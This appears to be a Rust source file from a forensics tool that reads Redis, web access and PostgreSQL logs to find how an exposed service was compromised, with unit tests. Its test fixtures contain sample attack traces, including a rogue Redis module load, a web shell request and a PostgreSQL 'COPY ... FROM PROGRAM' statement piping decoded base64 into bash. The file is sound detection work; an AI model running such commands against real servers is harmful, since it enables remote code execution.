//! Logs a network service writes about its own clients: the Redis server log, web server access logs
//! (Common/Combined Log Format: nginx, Apache, lighttpd, Tomcat's `AccessLogValve`) and the PostgreSQL
//! server log with the default `log_line_prefix` (`%m [%p] `). They show how an exposed service was made
//! to run the attacker's code: a `REPLICAOF` to a rogue master and a `MODULE LOAD` (HeadCrab, P2Pinfect),
//! the requests that reached a web shell or deployed one, `COPY ... FROM PROGRAM` after a run of failed
//! passwords (PG_MEM, CPU_HU).
//!
//! A log's format is recognised from its lines ([`sniff`]), never from its path, so a log in an unusual
//! place is read as well. Each parser returns only the lines that matter to the way in; everything in
//! them is text the service wrote about its clients, so every value is parsed (attacker-influenced), and
//! times without a zone are taken as UTC and marked guessed.

use std::net::IpAddr;

use time::{Date, Month, PrimitiveDateTime, Time, UtcOffset};

/// A log format this module reads.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum LogFormat {
    /// `PID:ROLE DD Mon YYYY HH:MM:SS.mmm LEVEL message` (Redis 3.0 and later).
    Redis,
    /// `CLIENT IDENT USER [DD/Mon/YYYY:HH:MM:SS ZONE] "METHOD TARGET PROTO" STATUS BYTES ...`.
    Access,
    /// `YYYY-MM-DD HH:MM:SS[.mmm] ZONE [PID] LEVEL:  message`.
    Postgres,
}

impl LogFormat {
    pub fn name(self) -> &'static str {
        match self {
            LogFormat::Redis => "Redis log",
            LogFormat::Access => "access log",
            LogFormat::Postgres => "PostgreSQL log",
        }
    }
}

/// What one line says, for the lines that matter.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum LogEvent {
    /// A client made the server a replica of `master` (`host:port` as logged): `REPLICAOF`/`SLAVE OF
    /// ... enabled (user request from 'id=... addr=IP:PORT ...')`, the line's client. A replica by its
    /// configuration (`replicaof` in redis.conf) logs only `Connecting to MASTER` at every start and
    /// reconnection: ordinary replication, not kept.
    RedisReplicaOf { master: String },
    /// A module was loaded (`Module 'NAME' loaded from PATH`).
    RedisModuleLoaded { name: String, path: Vec<u8> },
    /// A request that reached the application (any status but 4xx: a 5xx is a page that ran and failed or
    /// timed out, as one whose injected command still runs does) and changes state or carries a query
    /// (`POST`, `PUT`, or anything with `?`): what reaches a web shell or an injectable page. Plain page
    /// views and refused or missing targets (4xx) are not kept.
    WebRequest {
        method: String,
        /// The request target as logged (percent-encoded).
        target: Vec<u8>,
        status: u16,
        /// The authenticated user (`-` in the log: none).
        user: Option<String>,
    },
    /// `password authentication failed for user "USER"`.
    DbAuthFailed { user: String },
    /// `connection authorized: user=USER ...`.
    DbLogin { user: String },
    /// A statement that runs a shell command: `COPY ... FROM/TO PROGRAM 'command'`.
    DbProgram { statement: Vec<u8> },
}

/// One line that matters, with where and when.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct LogLine {
    pub line: u32,
    /// Seconds since the epoch.
    pub time: Option<i64>,
    /// True when the logged time has no zone (taken as UTC).
    pub time_guessed: bool,
    /// The client the line names (Redis `addr=`, the access log's client, PostgreSQL's `host=` of the
    /// same backend process).
    pub client: Option<IpAddr>,
    pub event: LogEvent,
}

/// Lines looked at to recognise a format.
const SNIFF_LINES: usize = 20;

/// The format of a log, from its first non-empty lines: the format at least half of them (and at least
/// two) parse as.
pub fn sniff(bytes: &[u8]) -> Option<LogFormat> {
    let lines: Vec<&[u8]> = super::numbered_lines(bytes)
        .map(|(_, l)| l)
        .filter(|l| !l.iter().all(u8::is_ascii_whitespace))
        .take(SNIFF_LINES)
        .collect();
    let mut best: Option<(LogFormat, usize)> = None;
    for format in [LogFormat::Redis, LogFormat::Access, LogFormat::Postgres] {
        let n = lines
            .iter()
            .filter(|l| match format {
                LogFormat::Redis => redis_head(l).is_some(),
                LogFormat::Access => access_parts(l).is_some(),
                LogFormat::Postgres => postgres_head(l).is_some(),
            })
            .count();
        if n >= 2 && n * 2 >= lines.len() && best.is_none_or(|(_, b)| n > b) {
            best = Some((format, n));
        }
    }
    best.map(|(f, _)| f)
}

/// Every line of a log in `format` that matters, in file order.
pub fn parse(format: LogFormat, bytes: &[u8]) -> Vec<LogLine> {
    match format {
        LogFormat::Redis => super::numbered_lines(bytes)
            .filter_map(|(n, l)| redis_line(n, l))
            .collect(),
        LogFormat::Access => super::numbered_lines(bytes)
            .filter_map(|(n, l)| access_line(n, l))
            .collect(),
        LogFormat::Postgres => postgres_lines(bytes),
    }
}

fn text(b: &[u8]) -> Option<&str> {
    std::str::from_utf8(b).ok()
}

/// `HH:MM:SS` with an optional fraction.
fn clock(s: &str) -> Option<Time> {
    let s = s.split('.').next()?;
    let mut p = s.split(':');
    let (h, m, sec) = (p.next()?, p.next()?, p.next()?);
    if p.next().is_some() {
        return None;
    }
    Time::from_hms(h.parse().ok()?, m.parse().ok()?, sec.parse().ok()?).ok()
}

fn unix(date: Date, t: Time, offset: UtcOffset) -> i64 {
    PrimitiveDateTime::new(date, t)
        .assume_offset(offset)
        .unix_timestamp()
}

/// An address out of `IP:PORT`, `[IP6]:PORT` or a bare address.
fn peer(s: &str) -> Option<IpAddr> {
    if let Ok(ip) = s.parse() {
        return Some(ip);
    }
    if let Some(rest) = s.strip_prefix('[') {
        return rest.split(']').next()?.parse().ok();
    }
    s.rsplit_once(':')?.0.parse().ok()
}

// ---- Redis ----

/// `PID:ROLE DD Mon YYYY HH:MM:SS.mmm LEVEL` → (time, the message after the level).
fn redis_head(line: &[u8]) -> Option<(i64, &[u8])> {
    let mut words = line.splitn(7, |b| *b == b' ');
    let pid_role = text(words.next()?)?;
    let (pid, role) = pid_role.split_once(':')?;
    if pid.is_empty()
        || !pid.bytes().all(|b| b.is_ascii_digit())
        || !["C", "M", "S", "X"].contains(&role)
    {
        return None;
    }
    let day: u8 = text(words.next()?)?.parse().ok()?;
    let mon = super::month_abbrev(text(words.next()?)?)?;
    let year: i32 = text(words.next()?)?.parse().ok()?;
    let t = clock(text(words.next()?)?)?;
    let level = words.next()?;
    if !matches!(level, b"." | b"-" | b"*" | b"#") {
        return None;
    }
    let date = Date::from_calendar_date(year, mon, day).ok()?;
    Some((
        unix(date, t, UtcOffset::UTC),
        words.next().unwrap_or_default(),
    ))
}

/// `... (user request from 'id=41 addr=203.0.113.19:51872 laddr=...')` → the client address.
fn redis_client(msg: &str) -> Option<IpAddr> {
    let at = msg.find(" addr=")?;
    let rest = msg.get(at + 6..)?;
    peer(rest.split([' ', '\'']).next()?)
}

fn redis_line(n: u32, line: &[u8]) -> Option<LogLine> {
    let (time, msg) = redis_head(line)?;
    let msg = String::from_utf8_lossy(msg);
    let event = if let Some(rest) = msg
        .strip_prefix("REPLICAOF ")
        .or_else(|| msg.strip_prefix("SLAVE OF "))
    {
        let master = rest.split(' ').next()?;
        if !rest.contains(" enabled") || master.eq_ignore_ascii_case("no") {
            return None;
        }
        LogEvent::RedisReplicaOf {
            master: master.to_owned(),
        }
    } else if let Some(rest) = msg.strip_prefix("Module '") {
        let (name, rest) = rest.split_once("' loaded from ")?;
        LogEvent::RedisModuleLoaded {
            name: name.to_owned(),
            path: rest.trim_end().as_bytes().to_vec(),
        }
    } else {
        return None;
    };
    Some(LogLine {
        line: n,
        time: Some(time),
        time_guessed: true,
        client: redis_client(&msg),
        event,
    })
}

// ---- access logs ----

struct Access<'a> {
    client: &'a str,
    user: &'a str,
    time: Option<i64>,
    method: &'a str,
    target: &'a [u8],
    status: u16,
}

/// Splits a Common/Combined Log Format line.
fn access_parts(line: &[u8]) -> Option<Access<'_>> {
    let open = line.iter().position(|b| *b == b'[')?;
    let close = open + line.get(open..)?.iter().position(|b| *b == b']')?;
    let head = text(line.get(..open)?)?;
    let mut hw = head.split_whitespace();
    let client = hw.next()?;
    let _ident = hw.next()?;
    let user = hw.next()?;
    peer(client)?;
    let stamp = text(line.get(open + 1..close)?)?;
    let rest = line.get(close + 1..)?;
    let q1 = rest.iter().position(|b| *b == b'"')?;
    let after = rest.get(q1 + 1..)?;
    let q2 = after.iter().position(|b| *b == b'"')?;
    let request = after.get(..q2)?;
    let tail = after.get(q2 + 1..)?;
    let tail = String::from_utf8_lossy(tail.get(..tail.len().min(32)).unwrap_or(tail));
    let status: u16 = tail.split_whitespace().next()?.parse().ok()?;
    let mut rw = request.splitn(3, |b| *b == b' ');
    let method = text(rw.next()?)?;
    if method.is_empty() || !method.bytes().all(|b| b.is_ascii_uppercase()) {
        return None;
    }
    let target = rw.next().unwrap_or_default();
    Some(Access {
        client,
        user,
        time: access_time(stamp),
        method,
        target,
        status,
    })
}

/// `10/Jun/2025:11:02:19 +0000`.
fn access_time(stamp: &str) -> Option<i64> {
    let (dt, zone) = stamp.split_once(' ')?;
    let mut p = dt.splitn(3, '/');
    let day: u8 = p.next()?.parse().ok()?;
    let mon = super::month_abbrev(p.next()?)?;
    let (year, hms) = p.next()?.split_once(':')?;
    let date = Date::from_calendar_date(year.parse().ok()?, mon, day).ok()?;
    let t = clock(hms)?;
    let (sign, digits) = zone.split_at_checked(1)?;
    let hours: i8 = digits.get(..2)?.parse().ok()?;
    let minutes: i8 = digits.get(2..4)?.parse().ok()?;
    let (h, m) = match sign {
        "+" => (hours, minutes),
        "-" => (-hours, -minutes),
        _ => return None,
    };
    Some(unix(date, t, UtcOffset::from_hms(h, m, 0).ok()?))
}

fn access_line(n: u32, line: &[u8]) -> Option<LogLine> {
    let a = access_parts(line)?;
    // 4xx: refused, or nothing there; anything else reached the application.
    let reached = !(400..500).contains(&a.status);
    let changes = !matches!(a.method, "GET" | "HEAD" | "OPTIONS");
    if !reached || !(changes || a.target.contains(&b'?')) {
        return None;
    }
    Some(LogLine {
        line: n,
        time: a.time,
        time_guessed: false,
        client: peer(a.client),
        event: LogEvent::WebRequest {
            method: a.method.to_owned(),
            target: a.target.to_vec(),
            status: a.status,
            user: (a.user != "-").then(|| a.user.to_owned()),
        },
    })
}

// ---- PostgreSQL ----

/// A PostgreSQL log line's head: (time, time guessed, pid, level, message).
type PostgresHead<'a> = (Option<i64>, bool, u32, &'a str, &'a [u8]);

/// `2025-09-04 01:47:13.402 UTC [20411] FATAL:  message` → its [`PostgresHead`].
fn postgres_head(line: &[u8]) -> Option<PostgresHead<'_>> {
    let mut w = line.splitn(5, |b| *b == b' ');
    let date = text(w.next()?)?;
    let clock_s = text(w.next()?)?;
    let zone = text(w.next()?)?;
    let pid = text(w.next()?)?
        .strip_prefix('[')?
        .strip_suffix(']')?
        .parse()
        .ok()?;
    let rest = w.next()?;
    let colon = rest.iter().position(|b| *b == b':')?;
    let level = text(rest.get(..colon)?)?;
    if !matches!(
        level,
        "LOG"
            | "FATAL"
            | "ERROR"
            | "WARNING"
            | "DETAIL"
            | "STATEMENT"
            | "HINT"
            | "PANIC"
            | "NOTICE"
            | "INFO"
            | "DEBUG1"
            | "DEBUG2"
    ) {
        return None;
    }
    let msg = rest.get(colon + 1..)?;
    let msg = msg
        .strip_prefix(b"  ")
        .or_else(|| msg.strip_prefix(b" "))
        .unwrap_or(msg);
    let mut d = date.splitn(3, '-');
    let (y, m, dd) = (d.next()?, d.next()?, d.next()?);
    let mon = Month::try_from(m.parse::<u8>().ok()?).ok()?;
    let day = Date::from_calendar_date(y.parse().ok()?, mon, dd.parse().ok()?).ok()?;
    let t = clock(clock_s)?;
    let (offset, guessed) = match zone {
        "UTC" | "GMT" | "Z" => (UtcOffset::UTC, false),
        z if z.starts_with('+') || z.starts_with('-') => {
            let (sign, digits) = z.split_at_checked(1)?;
            let h: i8 = digits.get(..2)?.parse().ok()?;
            let h = if sign == "-" { -h } else { h };
            (UtcOffset::from_hms(h, 0, 0).ok()?, false)
        }
        _ => (UtcOffset::UTC, true),
    };
    Some((Some(unix(day, t, offset)), guessed, pid, level, msg))
}

/// A quoted user name: `... for user "postgres"`, or the word after `user=`.
fn pg_user(msg: &str) -> Option<String> {
    if let Some(at) = msg.find("user \"") {
        let rest = msg.get(at + 6..)?;
        return Some(rest.split('"').next()?.to_owned());
    }
    let at = msg.find("user=")?;
    Some(msg.get(at + 5..)?.split(' ').next()?.to_owned())
}

fn postgres_lines(bytes: &[u8]) -> Vec<LogLine> {
    let mut out = Vec::new();
    // Backend pid -> the client it serves (from `connection received: host=...`).
    let mut clients: std::collections::HashMap<u32, IpAddr> = std::collections::HashMap::new();
    for (n, line) in super::numbered_lines(bytes) {
        let Some((time, guessed, pid, level, msg)) = postgres_head(line) else {
            continue;
        };
        let m = String::from_utf8_lossy(msg);
        if let Some(rest) = m.strip_prefix("connection received: host=") {
            if let Some(ip) = rest.split(' ').next().and_then(peer) {
                clients.insert(pid, ip);
            }
            continue;
        }
        let event = if level == "FATAL" && m.starts_with("password authentication failed") {
            LogEvent::DbAuthFailed {
                user: pg_user(&m).unwrap_or_default(),
            }
        } else if m.starts_with("connection authorized:") {
            LogEvent::DbLogin {
                user: pg_user(&m).unwrap_or_default(),
            }
        } else if (m.starts_with("statement:") || level == "STATEMENT")
            && super::contains_ci(msg, b" program ")
            && (super::contains_ci(msg, b"copy ") || super::contains_ci(msg, b"copy\t"))
        {
            LogEvent::DbProgram {
                statement: msg.strip_prefix(b"statement: ").unwrap_or(msg).to_vec(),
            }
        } else {
            continue;
        };
        out.push(LogLine {
            line: n,
            time,
            time_guessed: guessed,
            client: clients.get(&pid).copied(),
            event,
        });
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    const REDIS: &[u8] = b"811:C 02 Jun 2025 06:00:01.112 # Redis version=7.0.15, bits=64, just started\n\
811:M 02 Jun 2025 06:00:01.116 * Ready to accept connections tcp\n\
811:S 02 Jun 2025 14:07:12.004 * Connecting to MASTER 203.0.113.19:21000\n\
811:S 02 Jun 2025 14:07:12.004 * REPLICAOF 203.0.113.19:21000 enabled (user request from 'id=41 addr=203.0.113.19:51872 laddr=10.0.3.7:6379 fd=9 name= cmd=slaveof')\n\
811:M 02 Jun 2025 14:07:14.503 * Module 'system' loaded from /tmp/exp.so\n\
811:M 02 Jun 2025 14:07:14.650 * MASTER MODE enabled (user request from 'id=41 addr=203.0.113.19:51872')\n";

    #[test]
    fn redis_replication_and_modules() {
        assert_eq!(sniff(REDIS), Some(LogFormat::Redis));
        let lines = parse(LogFormat::Redis, REDIS);
        let events: Vec<&LogEvent> = lines.iter().map(|l| &l.event).collect();
        assert_eq!(
            events,
            vec![
                &LogEvent::RedisReplicaOf {
                    master: "203.0.113.19:21000".into()
                },
                &LogEvent::RedisModuleLoaded {
                    name: "system".into(),
                    path: b"/tmp/exp.so".to_vec()
                },
            ]
        );
        assert_eq!(lines[0].client, "203.0.113.19".parse().ok());
        assert_eq!(lines[1].client, None);
        // 2025-06-02T14:07:14Z
        assert_eq!((lines[1].line, lines[1].time), (5, Some(1_748_873_234)));
        // A replica by configuration connects to its master at every start: nothing to keep.
        let configured = b"1203:S 02 Dec 2025 04:10:11.211 * Connecting to MASTER 10.40.0.5:6379\n\
1203:S 02 Dec 2025 04:10:11.211 * MASTER <-> REPLICA sync started\n\
1203:S 02 Dec 2025 04:10:11.430 * MASTER <-> REPLICA sync: Finished with success\n";
        assert!(parse(LogFormat::Redis, configured).is_empty());
        // REPLICAOF NO ONE is the way back, not a replication.
        assert!(redis_line(
            1,
            b"1:M 02 Jun 2025 14:07:14.650 * REPLICAOF no one enabled"
        )
        .is_none());
    }

    const ACCESS: &[u8] = b"10.12.0.31 - - [10/Jun/2025:10:58:40 +0000] \"GET /index.jsp HTTP/1.1\" 200 143\n\
203.0.113.88 - - [10/Jun/2025:11:01:55 +0000] \"GET /manager/html HTTP/1.1\" 401 2473\n\
203.0.113.88 - tomcat [10/Jun/2025:11:02:14 +0000] \"PUT /manager/text/deploy?path=/mgmt HTTP/1.1\" 200 54\n\
203.0.113.88 - - [10/Jun/2025:13:02:19 +0200] \"GET /mgmt/cmd.jsp?c=id HTTP/1.1\" 200 38 \"-\" \"curl/8.0\"\n\
198.51.100.2 - - [10/Jun/2025:11:03:00 +0000] \"POST /x.php HTTP/1.1\" 404 0\n";

    #[test]
    fn access_requests_that_reach_something() {
        assert_eq!(sniff(ACCESS), Some(LogFormat::Access));
        let lines = parse(LogFormat::Access, ACCESS);
        assert_eq!(lines.len(), 2, "{lines:?}");
        assert_eq!(
            lines[0].event,
            LogEvent::WebRequest {
                method: "PUT".into(),
                target: b"/manager/text/deploy?path=/mgmt".to_vec(),
                status: 200,
                user: Some("tomcat".into())
            }
        );
        // +0200 is two hours ahead: 11:02:19Z.
        assert_eq!(lines[1].time, Some(1_749_553_339));
        assert_eq!(lines[1].client, "203.0.113.88".parse().ok());
    }

    const PG: &[u8] = b"2025-09-04 01:47:13.402 UTC [20411] FATAL:  password authentication failed for user \"postgres\"\n\
2025-09-04 01:47:13.402 UTC [20411] DETAIL:  Connection matched pg_hba.conf line 99\n\
2025-09-04 01:47:17.140 UTC [20417] LOG:  connection received: host=203.0.113.61 port=40818\n\
2025-09-04 01:47:17.162 UTC [20417] LOG:  connection authorized: user=postgres database=postgres\n\
2025-09-04 01:47:18.230 UTC [20417] LOG:  statement: COPY bwsyv FROM PROGRAM 'echo Y3VybA==|base64 -d|bash'\n\
2025-09-04 01:47:21.508 UTC [20417] LOG:  statement: SELECT * FROM bwsyv\n";

    #[test]
    fn postgres_logins_and_programs() {
        assert_eq!(sniff(PG), Some(LogFormat::Postgres));
        let lines = parse(LogFormat::Postgres, PG);
        let kinds: Vec<&LogEvent> = lines.iter().map(|l| &l.event).collect();
        assert_eq!(kinds.len(), 3, "{kinds:?}");
        assert!(matches!(kinds[0], LogEvent::DbAuthFailed { user } if user == "postgres"));
        assert!(matches!(kinds[1], LogEvent::DbLogin { user } if user == "postgres"));
        assert!(
            matches!(kinds[2], LogEvent::DbProgram { statement } if statement.starts_with(b"COPY bwsyv FROM PROGRAM"))
        );
        assert_eq!(lines[2].client, "203.0.113.61".parse().ok());
        assert_eq!(lines[0].client, None);
    }

    #[test]
    fn other_logs_and_garbage_are_not_recognised() {
        assert_eq!(
            sniff(b"Jan  1 00:00:01 h sshd[1]: Failed password for root from 1.2.3.4 port 5 ssh2\nJan  1 00:00:02 h sshd[1]: x\n"),
            None
        );
        assert_eq!(sniff(b""), None);
        for cut in 0..ACCESS.len() {
            let _ = parse(LogFormat::Access, &ACCESS[..cut]);
            let _ = parse(LogFormat::Redis, &REDIS[..cut.min(REDIS.len())]);
            let _ = parse(LogFormat::Postgres, &PG[..cut.min(PG.len())]);
        }
        let mut junk = ACCESS.to_vec();
        for i in (0..junk.len()).step_by(7) {
            junk[i] = 0xff;
        }
        let _ = sniff(&junk);
        let _ = parse(LogFormat::Access, &junk);
    }
}
